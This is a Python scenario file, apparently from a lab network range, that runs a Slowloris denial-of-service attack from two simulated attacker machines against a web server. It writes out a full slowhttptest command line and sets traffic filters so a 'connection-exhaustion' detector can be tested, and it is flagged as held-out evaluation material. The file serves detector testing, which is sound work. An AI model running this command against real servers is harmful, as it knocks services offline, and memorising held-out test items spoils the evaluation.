"""Slowloris from two machines, over IPv6 and IPv4, with fewer connections each."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attackers = [net.outside("attacker"), net.outside("attacker2")]
    web = net.web()
    net.everyday()
    with net.attack(
        "connection-exhaustion",
        by=attackers,
        victims=[web],
        frames=f"tcp and dst host {web.ip} and dst port 80",
        responses=f"tcp and src host {web.ip} and (dst host {attackers[0].ip} or dst host {attackers[1].ip})",
    ):
        words = f"slowhttptest -c 30 -H -i 12 -r 4 -l 46 -t HEAD -x 6 -p 3 -u http://{web.ip}/"
        other = net.start(attackers[1], *words.split())
        net.tool(attackers[0], *words.split(), seconds=48)
        net.end(other)
    net.quiet(2)


SCENARIO = Scenario(
    name="connection-exhaustion-held-two",
    about="slowhttptest -H on two machines holds thirty connections each, with a line every 12 seconds.",
    detectors=("connection-exhaustion",),
    tools={"slowhttptest": "slowhttptest"},
    held_out=True,
    run=run,
)
